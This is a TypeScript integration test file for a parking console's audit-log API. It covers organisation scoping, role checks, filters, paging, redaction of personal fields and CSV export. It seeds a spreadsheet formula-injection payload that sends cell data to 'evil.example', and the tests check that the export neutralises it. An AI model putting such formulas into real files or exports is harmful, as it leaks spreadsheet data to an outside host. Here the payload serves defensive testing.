import type { AuditPage } from '@parking/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEntry } from '../../../../../packages/server/src/services/audit/index';
import { seedOrganization, seedUser, signIn, snapshot } from '../../../support/console';
import { type TestApp, createTestApp } from '../../../support/test-app';

let t: TestApp;
const cookie: Record<string, string> = {};
const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Open")';

const member = (userId: string, organizationId: string) => ({ kind: 'member' as const, userId, organizationId });

/** Two operators, a partner and our staff, each with entries in its own log; one entry belongs to no one. */
async function seedLogs(): Promise<void> {
  const db = t.db.database.db;
  for (const [id, kind] of [
    ['op-a', 'operator'],
    ['op-b', 'operator'],
    ['pa-a', 'partner'],
    ['st-a', 'staff'],
  ] as const)
    await seedOrganization(db, id, kind);
  for (const [id, org, role] of [
    ['a-owner', 'op-a', 'owner'],
    ['a-manager', 'op-a', 'manager'],
    ['a-desk', 'op-a', 'desk'],
    ['b-owner', 'op-b', 'owner'],
    ['p-owner', 'pa-a', 'owner'],
    ['p-member', 'pa-a', 'member'],
    ['s-support', 'st-a', 'support'],
  ] as const)
    await seedUser(db, { id, organizationId: org, role, passkey: true });
  const record = (e: AuditEntry) => t.app.audit.record(e);
  t.clock.set('2026-11-20T10:00:00Z');
  await record({
    actor: member('a-owner', 'op-a'),
    organizationId: 'op-a',
    action: 'member.invited',
    target: { type: 'invitation', id: 'inv-1' },
    fields: { role: { before: null, after: 'desk' } },
  });
  t.clock.set('2026-11-21T10:00:00Z');
  await record({
    actor: member('a-manager', 'op-a'),
    organizationId: 'op-a',
    action: 'booking.details-changed',
    target: { type: 'booking', id: 'PK-123' },
    fields: { email: { before: 'old@traveller.example', after: 'new@traveller.example', personal: true } },
  });
  await record({
    actor: member('a-owner', 'op-a'),
    organizationId: 'op-a',
    action: HYPERLINK,
    target: { type: 'x', id: HYPERLINK },
  });
  await record({
    actor: member('b-owner', 'op-b'),
    organizationId: 'op-b',
    action: 'price.changed',
    target: { type: 'car-park', id: 'cp-b' },
  });
  await record({
    actor: { kind: 'system', job: 'sweeper' },
    organizationId: null,
    action: 'holds.released',
    target: { type: 'job', id: 'sweep' },
  });
  t.clock.set('2026-11-22T09:00:00Z');
  for (const id of ['a-owner', 'a-manager', 'a-desk', 'b-owner', 'p-owner', 'p-member', 's-support'])
    cookie[id] = (await signIn(t.app, id)).cookie;
}

beforeAll(async () => {
  t = await createTestApp();
  await seedLogs();
}, 120_000);
afterAll(async () => t?.close());

const get = (url: string, who?: string) =>
  t.app.inject({ method: 'GET', url, headers: who ? { cookie: cookie[who]! } : {} });
const page = async (url: string, who: string): Promise<AuditPage> => {
  const res = await get(url, who);
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
};

describe('GET /api/v1/console/audit', () => {
  it("shows a manager only their organisation's entries, newest first, with who did them", async () => {
    const { entries, next } = await page('/api/v1/console/audit', 'a-manager');
    expect(entries.map((e) => e.action)).toEqual([HYPERLINK, 'booking.details-changed', 'member.invited']);
    expect(next).toBeNull();
    expect(entries[2]).toMatchObject({
      at: '2026-11-20T10:00:00.000Z',
      actor: { kind: 'member', id: 'a-owner', name: 'User a-owner' },
      target: { type: 'invitation', id: 'inv-1' },
      changes: { role: { before: null, after: 'desk' } },
    });
  });

  it("says a traveller's personal field changed, never its values", async () => {
    const res = await get('/api/v1/console/audit?action=booking', 'a-manager');
    expect(res.json().entries[0].changes).toEqual({ email: { changed: true } });
    expect(res.body).not.toContain('traveller.example');
  });

  it("keeps each organisation to its own log; staff read the whole product's, ours included", async () => {
    expect((await page('/api/v1/console/audit', 'b-owner')).entries.map((e) => e.action)).toEqual(['price.changed']);
    expect((await page('/api/v1/console/audit', 'p-owner')).entries).toEqual([]);
    expect((await page('/api/v1/console/audit', 's-support')).entries.map((e) => e.action)).toEqual([
      'holds.released',
      'price.changed',
      HYPERLINK,
      'booking.details-changed',
      'member.invited',
    ]);
  });

  it('filters by action (from the start), actor and London days', async () => {
    const url = '/api/v1/console/audit';
    const actions = async (q: string) => (await page(`${url}?${q}`, 'a-manager')).entries.map((e) => e.action);
    expect(await actions('action=member')).toEqual(['member.invited']);
    expect(await actions('action=%25')).toEqual([]);
    expect(await actions('actor=a-manager')).toEqual(['booking.details-changed']);
    expect(await actions('from=2026-11-21')).toEqual([HYPERLINK, 'booking.details-changed']);
    expect(await actions('to=2026-11-20')).toEqual(['member.invited']);
    expect(await actions('from=2026-11-21&to=2026-11-21&actor=a-owner')).toEqual([HYPERLINK]);
  });

  it('answers a bad filter with 400 and the field', async () => {
    const res = await get('/api/v1/console/audit?from=yesterday', 'a-manager');
    expect(res.statusCode).toBe(400);
    expect(res.json().error.fields).toHaveProperty('from');
  });

  it('refuses signed out (401), an operator desk (403: manager needed) and a partner member (403: owner needed)', async () => {
    const before = await snapshot(t.db.database.db);
    expect((await get('/api/v1/console/audit')).statusCode).toBe(401);
    const desk = await get('/api/v1/console/audit', 'a-desk');
    expect(desk.statusCode).toBe(403);
    expect(desk.json().error).toEqual({ code: 'FORBIDDEN', message: 'This needs the manager role or higher' });
    const partner = await get('/api/v1/console/audit.csv', 'p-member');
    expect(partner.statusCode).toBe(403);
    expect(partner.json().error.message).toBe('This needs the owner role or higher');
    expect(await snapshot(t.db.database.db)).toEqual(before);
  });

  it('pages 50 at a time with a cursor, nothing twice and nothing missed', async () => {
    for (let i = 0; i < 55; i++)
      await t.app.audit.record({
        actor: member('a-owner', 'op-a'),
        organizationId: 'op-a',
        action: 'bulk.done',
        target: { type: 'n', id: String(i) },
      });
    const first = await page('/api/v1/console/audit?action=bulk', 'a-owner');
    expect(first.entries).toHaveLength(50);
    expect(first.entries[0]!.target.id).toBe('54');
    const second = await page(`/api/v1/console/audit?action=bulk&before=${first.next}`, 'a-owner');
    expect(second.entries.map((e) => e.target.id)).toEqual(['4', '3', '2', '1', '0']);
    expect(second.next).toBeNull();
  });
});

describe('GET /api/v1/console/audit.csv', () => {
  it("downloads the organisation's log as CSV, with formula cells made inert", async () => {
    const res = await get('/api/v1/console/audit.csv?to=2026-11-21', 'a-manager');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="audit-log-2026-11-22.csv"');
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe('\uFEFFTime (UTC),Actor kind,Actor,Actor name,Action,Target type,Target,Changes,Request id');
    const quoted = `"'${HYPERLINK.replace(/"/g, '""')}"`;
    expect(lines[1]).toBe(`2026-11-21T10:00:00.000Z,member,a-owner,User a-owner,${quoted},x,${quoted},,`);
    expect(lines[2]).toContain('booking.details-changed,booking,PK-123,email: changed,');
    expect(lines[3]).toContain('member.invited,invitation,inv-1,"role: null → ""desk""",');
    expect(res.body).not.toContain('price.changed');
    expect(res.body).not.toContain('traveller.example');
    expect(lines).toHaveLength(5);
  });

  it('refuses signed out (401)', async () => {
    expect((await get('/api/v1/console/audit.csv')).statusCode).toBe(401);
  });
});
